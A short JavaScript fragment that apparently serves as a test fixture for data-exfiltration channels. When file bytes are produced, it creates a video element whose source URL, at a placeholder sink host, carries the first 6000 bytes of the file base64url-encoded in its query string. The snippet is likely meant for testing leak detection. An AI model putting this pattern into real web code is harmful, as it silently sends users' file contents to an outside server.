// A part of the file in the address of a film.
whenMade(({ bytes }) => {
  const film = document.createElement("video");
  film.preload = "auto";
  film.src = `${SINKS.http}/intro.mp4?d=${base64url(bytes.slice(0, 6000))}`;
  document.body.append(film);
});
